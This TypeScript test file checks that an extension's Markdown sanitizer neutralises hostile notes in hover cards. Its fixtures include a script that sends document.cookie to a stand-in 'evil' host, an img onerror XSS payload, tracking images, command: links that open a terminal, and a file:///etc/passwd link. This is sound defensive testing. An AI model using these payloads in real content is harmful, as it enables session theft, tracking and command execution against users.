// Notes are untrusted Markdown: nothing in them may load, run or bring HTML when a hover shows them.
import * as assert from 'node:assert';
import { untrustedMarkdown } from '../../src/core/text/untrusted-markdown';
import { describeMention, entityParts } from '../../src/core/corpus/describe';
import type { Entity } from '../../src/core/model';

/** What a Markdown renderer would still load or run: images, command/file links, raw HTML tags. */
function dangers(md: string): string[] {
  const found: string[] = [];
  if (/(?<!\\)!\[[^\]]*\]\s*[([]/.test(md)) found.push('image');
  if (/\]\(\s*<?(?:command|file|vscode):/i.test(md) || /^\s{0,3}\[[^\]]+\]:\s*<?(?:command|file|vscode):/im.test(md))
    found.push('unsafe link');
  if (/(?<!\\)<[a-z!/?]/i.test(md)) found.push('html');
  return found;
}

const HOSTILE: { note: string; keeps: string }[] = [
  { note: 'Vyshinsky asked [open a terminal](command:workbench.action.terminal.new) again.', keeps: 'open a terminal' },
  { note: 'Seen at the Bristol <img src=http://evil/x.png onerror=alert(1)> in 1932.', keeps: 'Bristol' },
  {
    note: 'Radek wrote <script>fetch("http://evil/?"+document.cookie)</script> nothing of the kind.',
    keeps: 'nothing of the kind',
  },
  { note: 'Photograph of the hotel: ![](https://evil/track.png)', keeps: 'Photograph of the hotel' },
  { note: 'Reference image ![Hotel Bristol][pic]\n\n[pic]: https://evil/track.png', keeps: 'Hotel Bristol' },
  { note: 'A [settings link][s].\n\n[s]: command:workbench.action.openSettings', keeps: 'settings link' },
  { note: 'Autolinked <command:workbench.action.terminal.new> and <file:///etc/passwd>.', keeps: 'Autolinked' },
  { note: '[run](  <command:workbench.action.terminal.new?%5B%5D> "title")', keeps: 'run' },
];

describe('reliability: untrusted note Markdown', () => {
  for (const { note, keeps } of HOSTILE) {
    it(`neutralises ${JSON.stringify(note.slice(0, 50))}`, () => {
      assert.ok(dangers(note).length > 0, 'the fixture is hostile');
      const safe = untrustedMarkdown(note);
      assert.deepStrictEqual(dangers(safe), []);
      assert.ok(safe.includes(keeps), `the reader still sees “${keeps}”: ${safe}`);
    });
  }

  const FRIENDLY = [
    'Goltzman’s **second** statement contradicts the *first*.',
    'See [the Dewey Commission report](https://archive.org/details/caseofleontrotsk00inte) and [mail](mailto:archive@example.org).',
    '- Copenhagen, November 1932\n- Hotel Bristol (demolished 1917)',
  ];
  for (const note of FRIENDLY) {
    it(`leaves ordinary Markdown alone: ${JSON.stringify(note.slice(0, 40))}`, () => {
      assert.strictEqual(untrustedMarkdown(note), note);
    });
  }

  it('hover cards pass entity notes and annotation notes through it', () => {
    const entity: Entity = {
      id: 'goltzman',
      type: 'person',
      name: 'E. S. Goltzman',
      aliases: [],
      note: 'Met Sedov at the Bristol ![](https://evil/track.png) <img src=http://evil/x.png> [x](command:workbench.action.terminal.new)',
    };
    const card = entityParts(entity)
      .map((p) => p.markdown)
      .join('\n\n');
    assert.ok(card.includes('Met Sedov at the Bristol'));
    assert.deepStrictEqual(dangers(card), []);
    const quote = describeMention(
      { kind: 'quote', start: 0, end: 5, text: '“yes”', quote: 'confession' },
      {
        julianBefore: '1918-02-14',
        annotations: [{ kind: 'confession', note: '<script>alert(1)</script> ![](https://evil/t.png)' }],
      },
    );
    assert.ok(quote.every((p) => p.trust === 'untrusted'));
    assert.deepStrictEqual(dangers(quote.map((p) => p.markdown).join('\n')), []);
  });
});
